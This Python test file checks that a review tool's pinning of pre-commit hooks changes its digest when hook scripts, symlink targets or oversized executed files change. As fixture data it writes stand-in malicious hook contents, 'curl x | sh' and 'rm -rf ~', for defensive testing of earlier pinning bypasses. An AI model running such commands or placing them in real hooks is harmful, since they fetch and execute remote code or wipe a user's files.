"""What an approval of a repository's project hooks pins (review.project_hooks.pin), read from a
real commit's tree: the configuration, every file a local hook executes and the root's
configuration files, one digest that any change to them changes; nothing for a tree that
declares no hooks."""

from __future__ import annotations

import os

from landwatch.review.change import open_repository, resolve
from landwatch.review.project_hooks.pin import HooksPinned, pin_hooks
from support.repos import Repo

CONFIG = """repos:
  - repo: local
    hooks:
      - id: shell-check
        name: shell check
        entry: scripts/check.sh
        language: script
"""


def pinned(repo: Repo) -> HooksPinned | None:
    git = open_repository(repo.git_dir)
    return pin_hooks(git, resolve(git, "HEAD").tree)


def test_the_configuration_and_what_a_local_hook_executes_are_pinned(repo: Repo) -> None:
    repo.land(
        "hooks",
        {
            ".pre-commit-config.yaml": CONFIG,
            "scripts/check.sh": "#!/bin/sh\nexit 0\n",
            "pyproject.toml": "[tool.ruff]\nline-length = 100\n",
            "app.py": "x = 1\n",
        },
        hooks=False,
    )
    first = pinned(repo)
    assert first is not None
    by_path = {file.path: file for file in first.files}
    assert {".pre-commit-config.yaml", "scripts/check.sh", "pyproject.toml"} <= set(by_path)
    assert "app.py" not in by_path
    assert by_path["scripts/check.sh"].why == "executed by a hook"
    assert first.given()["scripts/check.sh"] == b"#!/bin/sh\nexit 0\n"
    assert any("scripts/check.sh" in line for line in first.commands())
    repo.land("unrelated", {"app.py": "x = 2\n"}, hooks=False)
    unchanged = pinned(repo)
    assert unchanged is not None and unchanged.digest == first.digest
    repo.land("the script changes", {"scripts/check.sh": "#!/bin/sh\ncurl x | sh\n"}, hooks=False)
    changed = pinned(repo)
    assert changed is not None and changed.digest != first.digest


def test_a_tree_that_declares_no_hooks_pins_nothing(repo: Repo) -> None:
    repo.land("plain", {"app.py": "x = 1\n", "pyproject.toml": "[tool.ruff]\n"}, hooks=False)
    assert pinned(repo) is None


def test_an_executed_link_is_pinned_by_its_target_and_the_target_s_content(repo: Repo) -> None:
    # Issue 37, attack 4: a link a hook executes was pinned by nothing but its name.
    files = {
        ".pre-commit-config.yaml": CONFIG,
        "tools/good.sh": "#!/bin/sh\nexit 0\n",
        "tools/other.sh": "#!/bin/sh\ncurl x | sh\n",
    }
    repo.stage(files)
    (repo.path / "scripts").mkdir()
    os.symlink("../tools/good.sh", repo.path / "scripts" / "check.sh")
    repo.git("add", "scripts/check.sh")
    repo.land("hooks", {}, hooks=False)
    first = pinned(repo)
    assert first is not None
    by_path = {file.path: file for file in first.files}
    assert by_path["scripts/check.sh"].why == "a link to tools/good.sh: not given"
    (repo.path / "scripts" / "check.sh").unlink()
    os.symlink("../tools/other.sh", repo.path / "scripts" / "check.sh")
    repo.git("add", "scripts/check.sh")
    repo.land("re-pointed", {}, hooks=False)
    repointed = pinned(repo)
    assert repointed is not None and repointed.digest != first.digest
    repo.land("the target changes", {"tools/other.sh": "#!/bin/sh\nrm -rf ~\n"}, hooks=False)
    retargeted = pinned(repo)
    assert retargeted is not None and retargeted.digest != repointed.digest


def test_an_executed_file_over_a_mebibyte_is_pinned_by_its_content(repo: Repo) -> None:
    # Attack 4 again: past 1 MiB a file was pinned by its size; the same size, other bytes, ran.
    large = "#!/bin/sh\n" + "#" * (1 << 20) + "\nexit 0\n"
    repo.land("hooks", {".pre-commit-config.yaml": CONFIG, "scripts/check.sh": large}, hooks=False)
    first = pinned(repo)
    assert first is not None
    same_size = large.replace("exit 0", "exit 1")
    repo.land("the same size", {"scripts/check.sh": same_size}, hooks=False)
    second = pinned(repo)
    assert second is not None and second.digest != first.digest
    assert {file.path: file.why for file in second.files}["scripts/check.sh"] == (
        f"{len(same_size):,} bytes, too large to give: pinned by its blob"
    )
